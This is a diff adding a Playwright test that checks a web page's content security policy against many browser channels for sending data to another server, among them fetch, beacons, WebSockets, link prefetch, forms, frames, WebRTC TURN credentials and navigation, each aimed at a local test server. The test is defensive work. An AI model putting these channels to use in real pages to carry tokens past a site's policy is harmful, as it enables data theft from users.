@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, type Page, test } from './page';
 
 // What code on the page can't do, although it runs there (docs/adr/0072).
@@ -51,3 +53,68 @@ async function stoppedBy(page: Page, attempt: string): Promise<string> {
     ${attempt};
   })`);
 }
+
+/** Adds an element to the page. @param fields its properties, as code */
+const adds = (tag: string, fields: string) =>
+  `document.body.append(Object.assign(document.createElement('${tag}'), { ${fields} }))`;
+
+/** Ways by which code on the page can try to reach another server, and what arrives there. */
+const WAYS: [
+  way: string,
+  attempt: (address: string) => string,
+  arrives: 'nothing' | 'connection' | 'request',
+][] = [
+  ['a picture', (to) => `new Image().src = '${to}'`, 'nothing'],
+  ['a background', (to) => `document.body.style.backgroundImage = 'url(${to})'`, 'nothing'],
+  ['a video', (to) => adds('video', `src: '${to}'`), 'nothing'],
+  ['fetch', (to) => `fetch('${to}').catch(() => {})`, 'nothing'],
+  ['a beacon', (to) => `navigator.sendBeacon('${to}', 'token')`, 'nothing'],
+  ['a web socket', (to) => `new WebSocket('${to.replace('http', 'ws')}')`, 'nothing'],
+  ['events of a server', (to) => `new EventSource('${to}')`, 'nothing'],
+  ['a preconnect', (to) => adds('link', `rel: 'preconnect', href: '${to}'`), 'nothing'],
+  ['a prefetch', (to) => adds('link', `rel: 'prefetch', href: '${to}'`), 'nothing'],
+  ['a preload', (to) => adds('link', `rel: 'preload', as: 'image', href: '${to}'`), 'nothing'],
+  ['an icon', (to) => adds('link', `rel: 'icon', href: '${to}'`), 'nothing'],
+  ['a ping', (to) => `${adds('a', `href: '#', ping: '${to}', id: 'ping'`)}; ping.click()`, 'nothing'],
+  // Chromium opens the connection before it looks at the policy.
+  ['a form', (to) => `${adds('form', `action: '${to}', id: 'out'`)}; out.submit()`, 'connection'],
+  ['a frame', (to) => adds('iframe', `src: '${to}'`), 'connection'],
+  [
+    'WebRTC',
+    (to) => `(async () => {
+      const urls = 'turn:${new URL(to).host}?transport=tcp';
+      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'token', credential: 'x' }] });
+      peer.createDataChannel('out');
+      await peer.setLocalDescription(await peer.createOffer());
+    })()`,
+    'connection',
+  ],
+  ['a window', (to) => `void window.open('${to}')`, 'request'],
+  ['a navigation', (to) => `location.href = '${to}'`, 'request'],
+];
+
+test('data can leave the page by navigation and WebRTC only', { tag: '@full' }, async ({
+  another,
+  pageErrors,
+}) => {
+  test.setTimeout(120_000);
+  pageErrors.expect(/./);
+  const arrived: string[] = [];
+  const server = createServer((_request, response) => {
+    arrived.push('request');
+    response.end('out');
+  }).on('connection', () => arrived.push('connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/?token`;
+  for (const [way, attempt, arrives] of WAYS) {
+    const { page } = await another();
+    await page.goto('/welcome');
+    arrived.length = 0;
+    await page.evaluate(attempt(address)).catch(() => {});
+    await page.waitForTimeout(700);
+    const most = ['request', 'connection'].find((one) => arrived.includes(one)) ?? 'nothing';
+    expect.soft(most, way).toBe(arrives);
+    await page.context().close();
+  }
+  server.close();
+});
